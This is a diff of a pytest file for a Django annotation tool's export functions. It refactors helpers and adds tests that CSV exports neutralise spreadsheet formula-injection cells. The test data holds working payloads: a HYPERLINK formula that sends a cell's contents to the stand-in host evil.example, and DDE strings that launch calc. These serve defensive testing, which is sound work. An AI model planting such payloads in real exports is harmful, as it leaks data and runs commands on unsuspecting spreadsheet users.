@@ -5,7 +5,6 @@ import uuid
 from datetime import timedelta
 
 import pytest
-from django.conf import settings
 from django.core.management import CommandError, call_command
 from django.db import connection
 from django.utils import timezone
@@ -19,62 +18,14 @@ from annotations.exports import (
 )
 from annotations.kinds import PairwisePayload
 from annotations.services import NewItem, label_submit, queue_item_claim, queue_items_create
-from tests.annotations.factories import likert, make_queue, pairwise_gold
+from tests.annotations.factories import (
+    export,
+    jsonl,
+    labelled_queue,
+    likert,
+    make_queue,
+)
 from tests.factories import UserFactory
-
-# Three annotators, three items, k = 3. Item 1 ends in a three-way split (a tie).
-VOTES = {
-    "ann-x": ["a", "a", "b"],
-    "ann-y": ["a", "b", "b"],
-    "ann-z": ["b", "tie", "b"],
-}
-
-
-def labelled_queue(*, gold=False, **fields):
-    people = [UserFactory(username=name) for name in VOTES]
-    items = [
-        NewItem(
-            payload=PairwisePayload(
-                prompt=f"Q{i}",
-                response_a=f"A{i}",
-                response_b=f"B{i}",
-                system="sys" if i == 0 else "",
-            ),
-            external_id=f"x{i}",
-        )
-        for i in range(3)
-    ]
-    queue = make_queue(name="prefs", members=people, items=items, labels_per_item=3, **fields)
-    if gold:
-        queue_items_create(queue=queue, items=pairwise_gold(1, "a"))
-        queue.gold_rate = 0.25
-        queue.save()
-    for person in people:
-        votes = iter(VOTES[person.username])
-        while (lease := queue_item_claim(queue=queue, annotator=person)) is not None:
-            # The gold item: x and y get it right, z does not.
-            value = (
-                ("b" if person.username == "ann-z" else "a") if lease.item.is_gold else next(votes)
-            )
-            label_submit(
-                assignment_id=lease.pk,
-                annotator=person,
-                value={"choice": value},
-                time_spent_ms=2000,
-                client_request_id=uuid.uuid4(),
-            )
-    return queue, people
-
-
-def export(queue, **spec_fields) -> bytes:
-    out = io.BytesIO()
-    export_write(export_plan(ExportSpec(queues=[queue.pk], **spec_fields)), out)
-    return out.getvalue()
-
-
-def jsonl(data: bytes) -> list[dict]:
-    # JSONL's lines end at "\n" only: str.splitlines() would also split at a raw U+2028.
-    return [json.loads(line) for line in data.split(b"\n") if line]
 
 
 def test_per_label_jsonl_carries_provenance(db):
@@ -139,8 +90,8 @@ def test_date_filters(db):
     now = timezone.now()
     assert len(jsonl(export(queue, since=now - timedelta(minutes=5)))) == 9
     assert export(queue, until=now - timedelta(minutes=5)) == b""
-    with pytest.raises(ValueError, match="'since' must be before 'until'"):
-        ExportSpec(queues=[queue.pk], since=now, until=now)
+    with pytest.raises(ExportInvalid, match="'since' must be before 'until'"):
+        export_plan(ExportSpec(queues=[queue.pk], since=now, until=now))
 
 
 def test_csv_is_flat_with_payload_columns(db):
@@ -225,7 +176,7 @@ def test_trl_conversational_pairs(db):
 def test_specs_the_data_cannot_serve_are_refused(db, annotator):
     pairs, _ = labelled_queue()
     ratings = make_queue(kind="likert", members=[annotator], items=likert(1))
-    with pytest.raises(ExportInvalid, match="needs pairwise or debate queues"):
+    with pytest.raises(ExportInvalid, match="needs queues whose items compare two responses"):
         export_plan(ExportSpec(queues=[ratings.pk], format="trl"))
     with pytest.raises(ExportInvalid, match="one kind at a time"):
         export_plan(ExportSpec(queues=[ratings.pk, pairs.pk]))
@@ -244,11 +195,6 @@ def test_export_labels_command(db, tmp_path, capsys):
     with pytest.raises(CommandError, match="No queue named"):
         call_command("export_labels", "--queue", "nope")
 
-
-on_postgres = pytest.mark.skipif(
-    "postgresql" not in settings.DATABASES["default"]["ENGINE"],
-    reason="the database-built JSONL path runs on PostgreSQL only (CI pass 2)",
-)
 
 # Everything JSON or COPY might mangle: quotes, backslashes (and text that looks like an escape),
 # newlines, tabs, control characters (COPY's own delimiter and quote among them), accents,
@@ -269,12 +215,12 @@ TRICKY = [
 
 def both_paths(monkeypatch, queue) -> tuple[bytes, bytes]:
     """The export written by Postgres (fast path) and by Python (portable path)."""
-    from annotations import exports
+    from annotations.exports import fast as fast_path
 
-    assert exports.fast_path_applies(export_plan(ExportSpec(queues=[queue.pk])))
+    assert fast_path.fast_path_applies(export_plan(ExportSpec(queues=[queue.pk])))
     fast = export(queue)
     with monkeypatch.context() as patch:
-        patch.setattr(exports, "fast_path_applies", lambda plan: False)
+        patch.setattr(fast_path, "fast_path_applies", lambda plan: False)
         portable = export(queue)
     return fast, portable
 
@@ -293,10 +239,11 @@ def label_all(queue, person, values) -> None:
 
 
 @pytest.mark.postgres
-@on_postgres
 def test_postgres_fast_path_writes_the_same_records_as_the_portable_one(db, monkeypatch):
     queue, _ = labelled_queue()
-    tricky = PairwisePayload(prompt='"quoted"\n<script>é ✓\\', response_a="\t", response_b="\u0001")
+    tricky = PairwisePayload(
+        prompt='"quoted"\n<script>é ✓\\', response_a="\tA\t", response_b="\u0001"
+    )
     queue_items_create(queue=queue, items=[NewItem(payload=tricky, external_id="tricky")])
     person = UserFactory(username="late")
     queue.members.add(person)
@@ -307,7 +254,6 @@ def test_postgres_fast_path_writes_the_same_records_as_the_portable_one(db, monk
 
 
 @pytest.mark.postgres
-@on_postgres
 def test_postgres_fast_path_keeps_tricky_text_exactly(db, monkeypatch):
     person = UserFactory(username="tricky")
     items = [
@@ -335,7 +281,6 @@ def test_postgres_fast_path_keeps_tricky_text_exactly(db, monkeypatch):
 
 
 @pytest.mark.postgres
-@on_postgres
 def test_postgres_fast_path_likert_labels_are_numbers(db, monkeypatch, annotator):
     queue = make_queue(kind="likert", members=[annotator], items=likert(3), labels_per_item=1)
     label_all(queue, annotator, [{"rating": rating} for rating in (1, 7, 4)])
@@ -344,15 +289,18 @@ def test_postgres_fast_path_likert_labels_are_numbers(db, monkeypatch, annotator
     assert jsonl(fast) == jsonl(portable)
 
 
-@pytest.mark.parametrize("fast", [True, False], ids=["fast-path", "portable-path"])
+@pytest.mark.parametrize(
+    "fast",
+    [pytest.param(True, marks=pytest.mark.postgres, id="fast-path"),
+     pytest.param(False, id="portable-path")],
+)  # fmt: skip
 def test_progress_counts_every_label_in_blocks(db, monkeypatch, fast):
-    from annotations import exports
+    from annotations.exports import fast as fast_path
+    from annotations.exports import records
 
-    if fast and connection.vendor != "postgresql":
-        pytest.skip("the database-built JSONL path runs on PostgreSQL only")
     if not fast:
-        monkeypatch.setattr(exports, "fast_path_applies", lambda plan: False)
-    monkeypatch.setattr(exports, "CHUNK_ROWS", 4)
+        monkeypatch.setattr(fast_path, "fast_path_applies", lambda plan: False)
+    monkeypatch.setattr(records, "CHUNK_ROWS", 4)
     queue, _ = labelled_queue()
     told: list[int] = []
     out = io.BytesIO()
@@ -363,11 +311,10 @@ def test_progress_counts_every_label_in_blocks(db, monkeypatch, fast):
 
 
 @pytest.mark.postgres
-@on_postgres
 def test_copy_rows_quoted_by_postgres_are_taken_back(db):
     # JSON text never holds COPY's delimiter or quote raw, so Postgres never quotes a line of
     # the export; should it ever, the writer must still put back the value exactly.
-    from annotations.exports import _COPY_OPTIONS, _write_rows
+    from annotations.exports.fast import _COPY_OPTIONS, _write_rows
 
     values = ["plain", "\x02quote\x02\x02", "delimiter\x01", "new\nline", "both\x01\x02\n", "é😀"]
     with connection.cursor() as cursor:
@@ -377,3 +324,87 @@ def test_copy_rows_quoted_by_postgres_are_taken_back(db):
     out = io.BytesIO()
     assert _write_rows(rows, out, None) == len(values)
     assert out.getvalue() == "".join(value + "\n" for value in values).encode()
+
+
+# --- spreadsheet safety ---------------------------------------------------------------------
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\tTAB=1",
+    "\r=CR",
+]
+
+
+def formula_queue():
+    """A labelled pairwise queue whose every text cell starts with a formula character."""
+    annotator = UserFactory(username="formula-annotator")
+    items = [
+        NewItem(
+            payload=PairwisePayload(
+                prompt=formula, response_a=formula, response_b=f"{formula} b", system=formula
+            ),
+            external_id=formula,
+        )
+        for formula in FORMULAS
+    ]
+    queue = make_queue(name="=cmd|' /C calc'!A0", members=[annotator], items=items,
+                       labels_per_item=1)  # fmt: skip
+    while (lease := queue_item_claim(queue=queue, annotator=annotator)) is not None:
+        label_submit(assignment_id=lease.pk, annotator=annotator, value={"choice": "a"},
+                     time_spent_ms=1, client_request_id=uuid.uuid4())  # fmt: skip
+    return queue
+
+
+TEXT_COLUMNS = ["queue", "external_id", "prompt", "response_a", "response_b", "system"]
+
+
+def test_csv_cells_that_would_run_as_formulas_are_neutralised(db):
+    queue = formula_queue()
+    rows = list(csv.DictReader(io.StringIO(export(queue, format="csv").decode(), newline="")))
+    assert len(rows) == len(FORMULAS)
+    for row, formula in zip(rows, FORMULAS, strict=True):
+        assert row["prompt"] == row["external_id"] == row["system"] == "'" + formula
+        assert row["response_b"] == f"'{formula} b"
+        assert row["queue"] == "'=cmd|' /C calc'!A0"
+        for column in TEXT_COLUMNS:  # no cell a spreadsheet would evaluate
+            assert not row[column].startswith(("=", "+", "-", "@", "\t", "\r")), column
+    # Other cells are untouched: numbers stay numbers, plain text stays as it is.
+    assert rows[0]["item_id"].isdigit() and rows[0]["label"] == "a"
+
+
+def test_the_raw_csv_option_writes_cells_as_given(db):
+    queue = formula_queue()
+    data = export(queue, format="csv", csv_raw=True).decode()
+    rows = list(csv.DictReader(io.StringIO(data, newline="")))
+    assert [row["prompt"] for row in rows] == FORMULAS
+    assert [row["external_id"] for row in rows] == FORMULAS
+    assert rows[0]["queue"] == "=cmd|' /C calc'!A0"
+
+
+@pytest.mark.parametrize("fmt", ["jsonl", "trl", "trl_conversational"])
+def test_jsonl_and_trl_stay_byte_faithful(db, fmt):
+    queue = formula_queue()
+    records = jsonl(export(queue, format=fmt))
+    assert len(records) == len(FORMULAS)
+    for record, formula in zip(records, FORMULAS, strict=True):
+        assert record["external_id"] == formula
+        if fmt == "jsonl":
+            assert record["payload"]["prompt"] == record["payload"]["system"] == formula
+        elif fmt == "trl":
+            assert record["prompt"] == record["chosen"] == formula
+            assert record["rejected"] == f"{formula} b"
+        else:
+            assert record["prompt"][0] == {"role": "system", "content": formula}
+            assert record["chosen"] == [{"role": "assistant", "content": formula}]
+
+
+def test_parquet_stays_byte_faithful(db):
+    import pyarrow.parquet as pq
+
+    queue = formula_queue()
+    table = pq.read_table(io.BytesIO(export(queue, format="parquet")))
+    assert table.column("prompt").to_pylist() == FORMULAS
+    assert table.column("external_id").to_pylist() == FORMULAS
+    assert table.column("queue").to_pylist() == ["=cmd|' /C calc'!A0"] * len(FORMULAS)
